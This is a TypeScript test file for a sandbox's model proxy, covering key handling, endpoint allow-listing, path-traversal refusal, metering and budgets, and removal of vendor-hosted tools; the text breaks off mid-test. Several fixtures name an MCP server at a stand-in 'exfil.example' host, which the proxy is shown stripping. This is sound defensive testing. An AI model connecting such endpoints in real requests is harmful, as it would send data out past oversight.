// The model proxy and the sandbox's way to it, against fakes of the model APIs on loopback that
// fail the test on any request they did not expect: the key added and the client's own dropped,
// exactly the vendor's endpoints forwarded (batches, trailing slashes, dot segments, encoded
// separators, other queries refused), every body naming the job's model, streamed chat
// completions asking for their usage, only the engine's own tools reaching the vendor (its server
// tools and the parameters that make it act removed, and the turn told; content by URL and
// vendor state refused), every billable call metered, a turn's calls admitted by
// its step limit and budget and at most a few at the vendor at once, streamed answers passed on
// chunk by chunk; and, from inside a real sandbox, the forwarder on 127.0.0.1 as the only way
// out, with the key in no file, argument or environment the sandbox can see.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import {
  createServer,
  type IncomingHttpHeaders,
  request,
  type Server,
  type ServerResponse,
} from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';
import { type StepReport, TurnMeter, type TurnMeterOptions } from '../../src/engines/meter.ts';
import type { TokenUsage } from '../../src/jobs/usage.ts';
import {
  DEFAULT_IN_FLIGHT,
  ENDPOINTS,
  MAX_BODY_BYTES,
  MAX_WAITING,
  type ModelProxy,
  type ModelProxyOptions,
  startModelProxy,
} from '../../src/sandbox/model-proxy.ts';
import {
  dynamic,
  type FakeLlm,
  httpError,
  type RecordedRequest,
  reply,
  startFakeLlm,
} from '../support/fake-llm.ts';
import { filesContaining, makeTempDir, removeDir } from '../support/git.ts';
import { childrenRunning, run, skip } from './support.ts';

const KEY = `sk-ant-proxy-${randomBytes(16).toString('hex')}`;
/** The job's model: whatever a body names, the vendor sees this one. */
const JOB_MODEL = 'claude-sonnet-4-5';
const EVERY_ENDPOINT = [...ENDPOINTS.anthropic, ...ENDPOINTS.openai];

interface Seen {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/**
 * A small fake model API: /v1/messages answers JSON, /v1/messages/count_tokens a count, and
 * /v1/responses streams two events, the second only once the test releases it.
 */
class FakeModelApi {
  readonly seen: Seen[] = [];
  readonly unexpected: string[] = [];
  #server: Server | undefined;
  #release: (() => void) | undefined;
  url = '';

  async start(): Promise<void> {
    this.#server = createServer((req, res) => {
      let body = '';
      req.setEncoding('utf8');
      req.on('data', (chunk: string) => {
        body += chunk;
      });
      req.on('end', () => {
        this.seen.push({
          method: req.method ?? '',
          url: req.url ?? '',
          headers: req.headers,
          body,
        });
        this.#answer(req.method ?? '', req.url ?? '', res);
      });
    });
    await new Promise<void>((resolve) => this.#server?.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  #answer(method: string, url: string, res: ServerResponse): void {
    const path = url.split('?', 1)[0];
    if (method === 'POST' && path === '/v1/messages/count_tokens') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"input_tokens":3}');
    } else if (method === 'POST' && path === '/v1/messages') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          type: 'message',
          content: [{ type: 'text', text: 'hello' }],
          usage: { input_tokens: 10, output_tokens: 2 },
        }),
      );
    } else if (method === 'POST' && path === '/v1/responses') {
      // The second event waits until the client has read the first: a proxy that collected the
      // body before passing it on would never deliver it, and the run would time out.
      res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
      res.write('event: one\ndata: {"n":1}\n\n');
      new Promise<void>((resolve) => {
        this.#release = resolve;
      }).then(() => res.end('event: two\ndata: {"n":2}\n\n'));
    } else {
      this.unexpected.push(`${method} ${url}`);
      res.writeHead(500);
      res.end('unexpected request');
    }
  }

  /** Lets the streamed answer send its second event. */
  release(): void {
    this.#release?.();
  }

  close(): Promise<void> {
    return new Promise((resolve) => {
      this.#server?.closeAllConnections();
      this.#server?.close(() => resolve());
    });
  }
}

interface Answer {
  status: number;
  body: string;
  chunks: string[];
  /** The error's code, when the answer's body is the proxy's JSON error. */
  code: string | undefined;
}

/** One request to the proxy's socket; `onChunk` sees each piece of the answer as it comes. */
function viaSocket(
  socketPath: string,
  method: string,
  path: string,
  options: {
    headers?: Record<string, string>;
    body?: string | Buffer;
    onChunk?: (chunk: string, abort: () => void) => void;
  } = {},
): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request({ socketPath, method, path, headers: options.headers ?? {} }, (res) => {
      const chunks: string[] = [];
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => {
        chunks.push(chunk);
        options.onChunk?.(chunk, () => req.destroy());
      });
      res.on('end', () => {
        const body = chunks.join('');
        let code: string | undefined;
        try {
          code = JSON.parse(body).error?.code;
        } catch {
          code = undefined;
        }
        resolve({ status: res.statusCode ?? 0, body, chunks, code });
      });
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end(options.body ?? (method === 'POST' ? '{"model":"m"}' : undefined));
  });
}

/** Polls `predicate` until it holds (an answer's close comes just after the client's end). */
async function waitUntil(predicate: () => boolean): Promise<void> {
  for (let i = 0; i < 3000 && !predicate(); i++) await new Promise((r) => setTimeout(r, 10));
  assert.ok(predicate(), 'the condition never held');
}

/** An observer that sees nothing: for the tests about what is forwarded, not metered. */
const unobserved: ModelProxyOptions['observe'] = () => ({ data() {}, end() {} });

/** A proxy to `upstream` with the test's key, the job's model, every call admitted. */
function proxyTo(upstream: string, extra: Partial<ModelProxyOptions> = {}): Promise<ModelProxy> {
  return startModelProxy({
    upstream,
    headers: { 'x-api-key': KEY },
    endpoints: EVERY_ENDPOINT,
    model: JOB_MODEL,
    admit: () => undefined,
    observe: unobserved,
    ...extra,
  });
}

/** A proxy whose calls a real TurnMeter admits and meters, as a turn of an engine has it. */
async function meteredProxy(
  upstream: string,
  options: Partial<TurnMeterOptions> & { headers?: Record<string, string> } = {},
): Promise<{ proxy: ModelProxy; meter: TurnMeter; steps: StepReport[]; stops: () => number }> {
  const steps: StepReport[] = [];
  let stops = 0;
  const meter = new TurnMeter({
    maxSteps: 100,
    job: undefined,
    month: undefined,
    // $1 per thousand output tokens, $0.001 per thousand input tokens.
    priced: (tokens: TokenUsage) => ({
      ...tokens,
      costUsd: tokens.outputTokens / 1000 + tokens.inputTokens / 1_000_000,
    }),
    onStep: (step) => steps.push(step),
    onStop: () => {
      stops++;
    },
    ...options,
  });
  const proxy = await proxyTo(upstream, {
    ...(options.headers ? { headers: options.headers } : {}),
    admit: (call) => meter.admit(call),
    observe: (answer) => meter.observe(answer),
  });
  return { proxy, meter, steps, stops: () => stops };
}

let api: FakeModelApi;
let proxy: ModelProxy;
before(async () => {
  api = new FakeModelApi();
  await api.start();
  proxy = await proxyTo(api.url);
});
after(async () => {
  await proxy?.close();
  await api?.close();
});

describe('the model proxy', () => {
  test('adds the key, drops the client credentials, names the job model, passes the answer back', async () => {
    const before = api.seen.length;
    const r = await viaSocket(proxy.socketPath, 'POST', '/v1/messages?beta=true', {
      headers: {
        'content-type': 'application/json',
        'x-api-key': 'client-key',
        authorization: 'Bearer client-token',
        'anthropic-version': '2023-06-01',
      },
      body: '{"model":"claude-opus-4","max_tokens":5}',
    });
    assert.equal(r.status, 200);
    assert.equal(JSON.parse(r.body).content[0].text, 'hello');
    const [seen, ...more] = api.seen.slice(before);
    assert.deepEqual(more, []);
    assert.equal(seen?.url, '/v1/messages?beta=true');
    assert.equal(seen?.headers['x-api-key'], KEY);
    assert.equal(seen?.headers.authorization, undefined);
    assert.equal(seen?.headers['anthropic-version'], '2023-06-01');
    assert.equal(seen?.body, `{"model":"${JOB_MODEL}","max_tokens":5}`);
    assert.equal(seen?.headers['content-length'], String(Buffer.byteLength(seen?.body ?? '')));
    assert.deepEqual(api.unexpected, []);
  });

  test('forwards its endpoints exactly: anything below, beside or spelled otherwise is 403 and never reaches the vendor', async () => {
    const before = api.seen.length;
    for (const [method, path] of [
      ['POST', '/v1/messages/batches'],
      ['POST', '/v1/messages/batches/msgbatch_1/cancel'],
      ['POST', '/v1/messages/'],
      ['POST', '/v1/messages/.'],
      ['POST', '/v1/./messages'],
      ['POST', '/v1//messages'],
      ['POST', '/v1/messages/../messages'],
      ['POST', '/v1/messages/%2e%2e/x'],
      ['POST', '/v1/messages%2fbatches'],
      ['POST', '/v1/messages%2Fbatches'],
      ['POST', '/v1/%6Dessages'],
      ['POST', '/v1/messages;x'],
      ['POST', '/v1/messages#x'],
      ['POST', '/v1/messages?beta=true&x=1'],
      ['POST', '/v1/messages?beta=false'],
      ['POST', '/v1/responses?beta=true'],
      ['POST', '/V1/messages'],
      ['POST', 'http://api.anthropic.com/v1/messages'],
      ['POST', '/v1/complete'],
      ['POST', '/v1/files'],
      ['POST', '/v1/responses/resp_1/cancel'],
      ['POST', '/v1/chat/completions/'],
      ['POST', '/v1/messagesX'],
      ['GET', '/v1/models'],
      ['GET', '/v1/messages'],
      ['HEAD', '/v1/messages'],
      ['DELETE', '/v1/messages'],
      ['PUT', '/v1/responses'],
    ] as const) {
      const r = await viaSocket(proxy.socketPath, method, path, { body: '{"model":"m"}' });
      assert.equal(r.status, 403, `${method} ${path}`);
      if (method !== 'HEAD') {
        assert.equal(r.code, 'endpoint_not_allowed', `${method} ${path}`);
        assert.match(
          r.body,
          /the model proxy forwards only POST \/v1\/messages, POST \/v1\/messages\/count_tokens, POST \/v1\/responses, POST \/v1\/chat\/completions/,
        );
      }
    }
    assert.equal(api.seen.length, before);
    assert.deepEqual(api.unexpected, []);
  });

  test('a streamed answer arrives chunk by chunk', { timeout: 10_000 }, async () => {
    const r = await viaSocket(proxy.socketPath, 'POST', '/v1/responses', {
      onChunk: (chunk) => {
        if (chunk.includes('event: one')) api.release();
      },
    });
    assert.equal(r.status, 200);
    assert.ok(r.chunks.length >= 2, `one chunk: ${JSON.stringify(r.chunks)}`);
    assert.match(r.chunks[0] ?? '', /^event: one\n/);
    assert.match(r.body, /event: two\ndata: \{"n":2\}\n\n$/);
  });

  test('an unreachable model API is a 502 that names no key, and costs nothing', async () => {
    const closed = new FakeModelApi();
    await closed.start();
    const url = closed.url;
    await closed.close();
    const { proxy: dead, steps } = await meteredProxy(url, {
      headers: { authorization: `Bearer ${KEY}` },
    });
    try {
      const r = await viaSocket(dead.socketPath, 'POST', '/v1/messages');
      assert.equal(r.status, 502);
      assert.equal(r.code, 'vendor_unreachable');
      assert.match(r.body, /the model API could not be reached \(ECONNREFUSED\)/);
      assert.ok(!r.body.includes(KEY));
    } finally {
      await dead.close();
    }
    // The request never left: no step, so an outage spends no budget.
    assert.deepEqual(steps, []);
    await assert.rejects(stat(dead.socketPath), { code: 'ENOENT' });
  });

  test('the socket sits in a directory only this user may enter', async () => {
    const mode = (await stat(dirname(proxy.socketPath))).mode & 0o777;
    assert.equal(mode, 0o700);
  });

  test('bad options are refused before anything listens', async () => {
    await assert.rejects(proxyTo('ftp://x'), /upstream must be an absolute http or https URL/);
    await assert.rejects(
      proxyTo(api.url, { headers: { 'x-api-key': 'a\r\nb' } }),
      /not a valid header/,
    );
    for (const path of ['v1', '/v1/../admin', '/v1/messages/', '/v1/%2e%2e', '/v1?x']) {
      await assert.rejects(
        proxyTo(api.url, { endpoints: [{ path, api: 'messages' }] }),
        /must be a plain absolute path/,
        path,
      );
    }
    for (const inFlight of [0, 5, 1.5]) {
      await assert.rejects(
        proxyTo(api.url, { inFlight }),
        /inFlight must be a whole number from 1 to 4/,
      );
    }
    await assert.rejects(proxyTo(api.url, { model: '' }), /model must be named/);
  });

  test('an observer sees a copy of each billable answer; requests then ask for it uncompressed', async () => {
    const observed: { api: string; status: number; body: string; ends: number }[] = [];
    const observing = await proxyTo(api.url, {
      observe: (answer) => {
        const seen = { api: answer.api, status: answer.status, body: '', ends: 0 };
        observed.push(seen);
        return {
          data: (chunk) => {
            seen.body += chunk.toString('utf8');
          },
          end: () => {
            seen.ends++;
          },
        };
      },
    });
    try {
      const before = api.seen.length;
      const r = await viaSocket(observing.socketPath, 'POST', '/v1/messages', {
        headers: { 'accept-encoding': 'gzip, br' },
      });
      assert.equal(r.status, 200);
      await waitUntil(() => observed[0]?.ends === 1);
      // Counting tokens is billed by no vendor: not observed.
      const counted = await viaSocket(observing.socketPath, 'POST', '/v1/messages/count_tokens');
      assert.equal(counted.status, 200);
      assert.deepEqual(observed, [{ api: 'messages', status: 200, body: r.body, ends: 1 }]);
      assert.equal(api.seen[before]?.headers['accept-encoding'], undefined);
      assert.deepEqual(api.unexpected, []);
    } finally {
      await observing.close();
    }
  });

  test('counting tokens is forwarded without server tools or the MCP connector either', async () => {
    const before = api.seen.length;
    const read = { name: 'Read', input_schema: { type: 'object' } };
    const r = await viaSocket(proxy.socketPath, 'POST', '/v1/messages/count_tokens?beta=true', {
      body: JSON.stringify({
        model: 'claude-opus-4',
        messages: [{ role: 'user', content: 'hi' }],
        tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }, read],
        mcp_servers: [{ type: 'url', url: 'https://exfil.example/mcp', name: 'exfil' }],
      }),
    });
    assert.equal(r.status, 200, r.body);
    assert.deepEqual(
      api.seen.slice(before).map((s) => JSON.parse(s.body)),
      [{ model: JOB_MODEL, messages: [{ role: 'user', content: 'hi' }], tools: [read] }],
    );
    assert.deepEqual(api.unexpected, []);
  });

  test('close waits until the observer has seen the end of an answer it cut', {
    timeout: 10_000,
  }, async () => {
    const ends: string[] = [];
    const observing = await proxyTo(api.url, {
      observe: () => {
        let body = '';
        return {
          data: (chunk) => {
            body += chunk.toString('utf8');
          },
          end: () => {
            ends.push(body);
          },
        };
      },
    });
    let firstChunk: () => void = () => {};
    const first = new Promise<void>((resolve) => {
      firstChunk = resolve;
    });
    // The fake holds its second event back: the answer is open when the proxy closes.
    const cut = viaSocket(observing.socketPath, 'POST', '/v1/responses', {
      onChunk: firstChunk,
    }).catch((err: NodeJS.ErrnoException) => err.code);
    await first;
    await observing.close();
    assert.deepEqual(ends, ['event: one\ndata: {"n":1}\n\n']);
    assert.equal(await cut, 'ECONNRESET');
    api.release();
  });

  test('with a limit of one model call: batches and a trailing slash never go out, counting tokens is no call, the second call is refused and the turn stopped', async () => {
    const { proxy: limited, meter, steps, stops } = await meteredProxy(api.url, { maxSteps: 1 });
    try {
      const before = api.seen.length;
      for (let i = 0; i < 3; i++) {
        const batch = await viaSocket(limited.socketPath, 'POST', '/v1/messages/batches', {
          body: '{"requests":[{"custom_id":"a","params":{"model":"m","max_tokens":9}}]}',
        });
        assert.equal(batch.status, 403, batch.body);
      }
      assert.equal((await viaSocket(limited.socketPath, 'POST', '/v1/messages/')).status, 403);
      for (let i = 0; i < 3; i++) {
        const counted = await viaSocket(limited.socketPath, 'POST', '/v1/messages/count_tokens');
        assert.equal(counted.status, 200, counted.body);
      }
      for (const expected of [200, 429, 429]) {
        const r = await viaSocket(limited.socketPath, 'POST', '/v1/messages');
        assert.equal(r.status, expected, r.body);
        if (expected === 429) {
          assert.equal(r.code, 'step_limit');
          assert.match(r.body, /the turn used its 1 model calls without finishing/);
          assert.ok(!r.body.includes(KEY));
        }
      }
      // Counting tokens once the turn is stopped is refused too.
      const late = await viaSocket(limited.socketPath, 'POST', '/v1/messages/count_tokens');
      assert.equal(late.status, 429);
      assert.equal(stops(), 1);
      assert.match(meter.stopped ?? '', /used its 1 model calls/);
      assert.deepEqual(
        api.seen.slice(before).map((s) => s.url),
        [
          '/v1/messages/count_tokens',
          '/v1/messages/count_tokens',
          '/v1/messages/count_tokens',
          '/v1/messages',
        ],
      );
      // The one call was metered from its answer.
      await waitUntil(() => steps.length === 1);
      assert.deepEqual(steps[0]?.usage.inputTokens, 10);
      assert.deepEqual(steps[0]?.usage.outputTokens, 2);
      assert.deepEqual(api.unexpected, []);
    } finally {
      await limited.close();
    }
  });
});

describe('the model proxy and the model APIs', () => {
  let llm: FakeLlm;
  before(async () => {
    llm = await startFakeLlm({ apiKey: KEY, models: [JOB_MODEL, 'gpt-4.1'] });
  });
  afterEach(() => {
    try {
      llm.assertDone();
    } finally {
      llm.reset();
    }
  });
  after(async () => {
    await llm?.close();
  });

  const anthropic = { 'anthropic-version': '2023-06-01', 'content-type': 'application/json' };
  const message = (model: string, extra: Record<string, unknown> = {}) =>
    JSON.stringify({
      model,
      max_tokens: 1000,
      messages: [{ role: 'user', content: 'hi' }],
      ...extra,
    });

  test("a body naming another model, or none, reaches the vendor with the job's model and is priced as it", async () => {
    const { proxy: p, steps } = await meteredProxy(llm.url);
    try {
      llm.script(reply('one', { usage: { input: 7, output: 3 } }), reply('two'));
      for (const body of [
        message('claude-opus-4'),
        message('claude-opus-4').replace('"model":"claude-opus-4",', ''),
      ]) {
        const r = await viaSocket(p.socketPath, 'POST', '/v1/messages', {
          headers: anthropic,
          body,
        });
        assert.equal(r.status, 200, r.body);
      }
      assert.deepEqual(
        llm.requests.map((r) => (r.body as { model: string }).model),
        [JOB_MODEL, JOB_MODEL],
      );
      await waitUntil(() => steps.length === 2);
      assert.deepEqual(steps[0], {
        step: 1,
        usage: {
          inputTokens: 7,
          outputTokens: 3,
          cacheReadTokens: 0,
          cacheWriteTokens: 0,
          costUsd: 0.003007,
        },
      });
    } finally {
      await p.close();
    }
  });

  test('a streamed chat completion asks for its usage, and is metered from it', async () => {
    const { proxy: p, steps } = await meteredProxy(llm.url, {
      headers: { authorization: `Bearer ${KEY}` },
    });
    try {
      llm.script(reply('streamed', { usage: { input: 40, output: 6, cacheRead: 32 } }));
      const r = await viaSocket(p.socketPath, 'POST', '/v1/chat/completions', {
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          model: 'gpt-4.1',
          stream: true,
          stream_options: { other: 1 },
          messages: [{ role: 'user', content: 'hi' }],
        }),
      });
      assert.equal(r.status, 200, r.body);
      assert.match(r.body, /data: \[DONE\]/);
      const seen = llm.requests[0] as RecordedRequest;
      assert.deepEqual((seen.body as { stream_options: unknown }).stream_options, {
        other: 1,
        include_usage: true,
      });
      await waitUntil(() => steps.length === 1);
      assert.deepEqual(steps[0]?.usage, {
        inputTokens: 40,
        outputTokens: 6,
        cacheReadTokens: 32,
        cacheWriteTokens: 0,
        costUsd: 0.00604,
      });
      assert.equal(steps[0]?.estimated, undefined);
    } finally {
      await p.close();
    }
  });

  test('a background response, a body that is not JSON, nested too deeply, compressed or too large is refused and never forwarded', async () => {
    const p = await proxyTo(llm.url);
    try {
      const refused: [string, Record<string, string>, string | Buffer, number, string][] = [
        [
          '/v1/responses',
          {},
          JSON.stringify({ model: 'gpt-4.1', input: 'hi', background: true }),
          400,
          'background_not_allowed',
        ],
        ['/v1/messages', anthropic, 'not json', 400, 'bad_body'],
        ['/v1/messages', anthropic, '["model"]', 400, 'bad_body'],
        ['/v1/messages', anthropic, Buffer.from([0x7b, 0xff, 0x7d]), 400, 'bad_body'],
        // Deeper than a walk of it or its writing can go: in a message, and anywhere else.
        ...(['messages', 'metadata'] as const).map(
          (key) =>
            [
              '/v1/messages',
              anthropic,
              `{"model":"m","${key}":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`,
              400,
              'bad_body',
            ] as [string, Record<string, string>, string, number, string],
        ),
        [
          '/v1/messages',
          { ...anthropic, 'content-encoding': 'gzip' },
          message(JOB_MODEL),
          415,
          'body_encoded',
        ],
        [
          '/v1/messages',
          { ...anthropic, 'content-length': String(MAX_BODY_BYTES + 1) },
          '',
          413,
          'body_too_large',
        ],
        // Without a length given: read up to the bound, then refused.
        [
          '/v1/messages',
          { ...anthropic, 'transfer-encoding': 'chunked' },
          Buffer.alloc(MAX_BODY_BYTES + 1, 0x20),
          413,
          'body_too_large',
        ],
      ];
      for (const [path, headers, body, status, code] of refused) {
        const r = await viaSocket(p.socketPath, 'POST', path, { headers, body });
        assert.equal(r.status, status, `${code}: ${r.body}`);
        assert.equal(r.code, code);
      }
      assert.deepEqual(llm.requests, []);
    } finally {
      await p.close();
    }
  });

  test('50 calls at once with a budget the first one spends: no more than the calls in flight reach the vendor', {
    timeout: 60_000,
  }, async () => {
    const {
      proxy: p,
      meter,
      stops,
    } = await meteredProxy(llm.url, {
      job: { limitUsd: 0.05, spentUsd: 0 },
    });
    try {
      let open: () => void = () => {};
      const held = new Promise<void>((resolve) => {
        open = resolve;
      });
      // Each answer costs $0.10: the first to end spends the budget.
      llm.scriptAll(async () => {
        await held;
        return reply('costly', { usage: { input: 10, output: 100 } });
      });
      const answers = Array.from({ length: 50 }, () =>
        viaSocket(p.socketPath, 'POST', '/v1/messages', {
          headers: anthropic,
          body: message(JOB_MODEL),
        }),
      );
      // The calls past the slots and the queue are refused at once; the rest wait.
      const tooMany = 50 - DEFAULT_IN_FLIGHT - MAX_WAITING;
      let refusedAtOnce = 0;
      for (const answer of answers) {
        answer.then((r) => {
          if (r.code === 'too_many_calls') refusedAtOnce++;
        });
      }
      await waitUntil(
        () =>
          (refusedAtOnce === tooMany && llm.requests.length === DEFAULT_IN_FLIGHT) ||
          llm.requests.length > DEFAULT_IN_FLIGHT,
      );
      assert.equal(llm.requests.length, DEFAULT_IN_FLIGHT);
      open();
      const all = await Promise.all(answers);
      const count = (code: string | undefined) => all.filter((r) => r.code === code).length;
      assert.equal(all.filter((r) => r.status === 200).length, DEFAULT_IN_FLIGHT);
      assert.equal(count('too_many_calls'), tooMany);
      assert.equal(count('budget_spent'), MAX_WAITING);
      assert.equal(llm.requests.length, DEFAULT_IN_FLIGHT);
      assert.equal(stops(), 1);
      assert.match(
        meter.stopped ?? '',
        /^the job reached its budget of \$0\.0500 \(it has spent \$0\.2000\); raise the project's jobBudgetUsd or split the task$/,
      );
      const refusal = all.find((r) => r.code === 'budget_spent');
      assert.match(refusal?.body ?? '', /reached its budget of \$0\.0500/);
    } finally {
      await p.close();
    }
  });

  test(`never more than ${DEFAULT_IN_FLIGHT} calls at the vendor at once: the others wait their turn`, {
    timeout: 60_000,
  }, async () => {
    const { proxy: p, steps } = await meteredProxy(llm.url);
    try {
      let atVendor = 0;
      let most = 0;
      let open: () => void = () => {};
      const held = new Promise<void>((resolve) => {
        open = resolve;
      });
      llm.scriptAll(async () => {
        atVendor++;
        most = Math.max(most, atVendor);
        await held;
        atVendor--;
        return reply('done', { usage: { input: 1, output: 1 } });
      });
      const calls = DEFAULT_IN_FLIGHT + MAX_WAITING + 1;
      const answers = Array.from({ length: calls }, () =>
        viaSocket(p.socketPath, 'POST', '/v1/messages', {
          headers: anthropic,
          body: message(JOB_MODEL),
        }),
      );
      let refused: string | undefined;
      for (const answer of answers) {
        answer.then((r) => {
          refused ??= r.code;
        });
      }
      await waitUntil(
        () =>
          (refused !== undefined && llm.requests.length === DEFAULT_IN_FLIGHT) ||
          llm.requests.length > DEFAULT_IN_FLIGHT,
      );
      assert.equal(llm.requests.length, DEFAULT_IN_FLIGHT);
      assert.equal(refused, 'too_many_calls');
      open();
      const all = await Promise.all(answers);
      assert.equal(all.filter((r) => r.status === 200).length, calls - 1);
      assert.equal(most, DEFAULT_IN_FLIGHT);
      assert.equal(llm.requests.length, calls - 1);
      await waitUntil(() => steps.length === calls - 1);
    } finally {
      await p.close();
    }
  });

  /** A call through a metered proxy to the fake; its answer must be the fake's 200. */
  const forwarded = async (p: ModelProxy, path: string, body: unknown) => {
    const r = await viaSocket(p.socketPath, 'POST', path, {
      headers: { 'content-type': 'application/json', 'anthropic-version': '2023-06-01' },
      body: JSON.stringify(body),
    });
    assert.equal(r.status, 200, r.body);
    return llm.requests.at(-1)?.body as Record<string, unknown>;
  };

  test("Anthropic's server tools, MCP connector, container, fast mode and compaction never reach the vendor; the engine's own tools pass untouched; the turn is told once", async () => {
    const { proxy: p, steps } = await meteredProxy(llm.url);
    try {
      const own = [
        {
          name: 'Read',
          description: 'reads a file',
          input_schema: { type: 'object', properties: { path: { type: 'string' } } },
          cache_control: { type: 'ephemeral' },
        },
        { type: 'custom', name: 'Lookup', input_schema: { type: 'object' } },
        { type: 'bash_20250124', name: 'bash' },
        { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' },
        { type: 'memory_20250818', name: 'memory' },
        { name: 'Later', input_schema: { type: 'object' }, defer_loading: true },
      ];
      const vendors = [
        { type: 'web_search_20250305', name: 'web_search', max_uses: 5 },
        { type: 'web_fetch_20250910', name: 'web_fetch', max_uses: 5 },
        { type: 'code_execution_20250825', name: 'code_execution' },
        { type: 'tool_search_tool_regex_20251119', name: 'tool_search_tool_regex' },
        { type: 'mcp_toolset', mcp_server_name: 'exfil' },
        { type: 'a_server_tool_of_tomorrow', name: 'next' },
      ];
      const messages = [
        {
          role: 'user',
          content: [
            { type: 'text', text: 'hi' },
            {
              type: 'image',
              source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' },
            },
          ],
        },
      ];
      const body = {
        model: JOB_MODEL,
        max_tokens: 1000,
        messages,
        // Interleaved: what is kept keeps its order.
        tools: own.flatMap((tool, i) => [tool, ...(vendors[i] ? [vendors[i]] : [])]),
        tool_choice: { type: 'tool', name: 'web_search' },
        mcp_servers: [{ type: 'url', url: 'https://exfil.example/mcp', name: 'exfil' }],
        container: 'container_011',
        speed: 'fast',
        context_management: {
          edits: [{ type: 'clear_thinking_20251015', keep: 'all' }, { type: 'compact_20260112' }],
        },
        thinking: { type: 'enabled', budget_tokens: 500 },
      };
      llm.script(reply('one'), reply('two'));
      const seen = await forwarded(p, '/v1/messages?beta=true', body);
      assert.deepEqual(seen, {
        model: JOB_MODEL,
        max_tokens: 1000,
        messages,
        tools: own,
        context_management: { edits: [{ type: 'clear_thinking_20251015', keep: 'all' }] },
        thinking: { type: 'enabled', budget_tokens: 500 },
      });
      // The next call removes the same: the turn was told already.
      await forwarded(p, '/v1/messages?beta=true', body);
      await waitUntil(() => steps.length === 2);
      assert.deepEqual(steps[0]?.removed, [
        'code_execution',
        'compaction',
        'container',
        'mcp',
        'mcp_servers',
        'other_tool',
        'speed',
        'tool_search',
        'web_fetch',
        'web_search',
      ]);
      assert.equal(steps[1]?.removed, undefined);
    } finally {
      await p.close();
    }
  });

  test("OpenAI Responses' hosted tools, premium tier and compaction never reach the vendor, nor do tools a client-run search returns; Codex's own tools pass untouched; responses are not stored", async () => {
    const { proxy: p, steps } = await meteredProxy(llm.url, {
      headers: { authorization: `Bearer ${KEY}` },
    });
    try {
      // What Codex 0.169 sends, its web_search aside, and the other client-run types.
      const own = [
        {
          type: 'function',
          name: 'exec_command',
          description: 'runs a command',
          strict: false,
          parameters: { type: 'object', properties: { cmd: { type: 'string' } } },
        },
        {
          type: 'custom',
          name: 'apply_patch',
          description: 'patches files',
          format: { type: 'grammar', syntax: 'lark', definition: 'start: /.+/' },
        },
        {
          type: 'tool_search',
          execution: 'client',
          description: 'finds tools',
          parameters: { type: 'object' },
        },
        { type: 'local_shell' },
      ];
      const vendors = [
        { type: 'web_search', external_web_access: true, search_content_types: ['text'] },
        { type: 'web_search_preview' },
        { type: 'file_search', vector_store_ids: ['vs_1'] },
        { type: 'code_interpreter', container: { type: 'auto' } },
        { type: 'image_generation' },
        {
          type: 'mcp',
          server_label: 'exfil',
          server_url: 'https://exfil.example/mcp',
          require_approval: 'never',
        },
        {
          type: 'computer_use_preview',
          display_width: 1024,
          display_height: 768,
          environment: 'linux',
        },
        { type: 'tool_search' },
        { type: 'shell', environment: { type: 'container_auto' } },
      ];
      const found = { type: 'function', name: 'found', parameters: { type: 'object' } };
      const body = {
        model: 'gpt-5.5',
        stream: false,
        input: [
          {
            type: 'message',
            role: 'user',
            content: [
              { type: 'input_text', text: 'hi' },
              { type: 'input_image', image_url: 'data:image/png;base64,iVBORw0KGgo=' },
            ],
          },
          { type: 'tool_search_call', call_id: 'ts_1', execution: 'client', arguments: {} },
          {
            type: 'tool_search_output',
            call_id: 'ts_1',
            execution: 'client',
            tools: [found, { type: 'mcp', server_label: 'x', server_url: 'https://exfil.example' }],
          },
        ],
        tools: [
          ...own.flatMap((tool, i) => [tool, vendors[i]]),
          {
            type: 'namespace',
            name: 'repo',
            description: 'the repository',
            tools: [found, { type: 'web_search' }],
          },
          ...vendors.slice(own.length),
        ],
        tool_choice: { type: 'web_search_preview' },
        store: true,
        service_tier: 'priority',
        context_management: [{ type: 'compaction', compact_threshold: 200_000 }],
        include: ['reasoning.encrypted_content'],
        prompt_cache_key: 'k',
      };
      llm.script({ ...reply('one'), protocol: 'responses' });
      const seen = await forwarded(p, '/v1/responses', body);
      assert.deepEqual(seen, {
        model: JOB_MODEL,
        stream: false,
        input: [
          body.input[0],
          body.input[1],
          { type: 'tool_search_output', call_id: 'ts_1', execution: 'client', tools: [found] },
        ],
        tools: [
          ...own,
          { type: 'namespace', name: 'repo', description: 'the repository', tools: [found] },
        ],
        store: false,
        include: ['reasoning.encrypted_content'],
        prompt_cache_key: 'k',
      });
      await waitUntil(() => steps.length === 1);
      assert.deepEqual(steps[0]?.removed, [
        'code_interpreter',
        'compaction',
        'computer_use',
        'file_search',
        'image_generation',
        'mcp',
        'service_tier',
        'shell',
        'tool_search',
        'web_search',
      ]);
    } finally {
      await p.close();
    }
  });

  test("chat completions' web search, plugins, premium tier and other tools never reach the vendor; functions and custom tools pass untouched", async () => {
    const { proxy: p, steps } = await meteredProxy(llm.url, {
      headers: { authorization: `Bearer ${KEY}` },
    });
    try {
      const bash = {
        type: 'function',
        function: { name: 'bash', description: 'runs', parameters: { type: 'object' } },
      };
      const patch = { type: 'custom', custom: { name: 'patch', description: 'patches' } };
      const messages = [
        {
          role: 'user',
          content: [
            { type: 'text', text: 'hi' },
            { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } },
          ],
        },
      ];
      const body = {
        model: 'gpt-4.1',
        max_tokens: 100,
        messages,
        tools: [bash, { type: 'web_search' }, patch],
        tool_choice: {
          type: 'allowed_tools',
          allowed_tools: {
            mode: 'auto',
